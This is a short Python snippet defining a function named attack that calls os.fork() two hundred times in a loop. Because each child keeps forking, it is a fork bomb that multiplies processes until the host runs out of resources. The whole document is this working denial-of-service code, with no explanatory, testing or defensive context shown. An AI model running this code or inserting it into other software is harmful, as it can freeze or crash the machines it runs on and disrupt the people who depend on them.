def attack():
    import os

    for _ in range(200):
        os.fork()
    return True
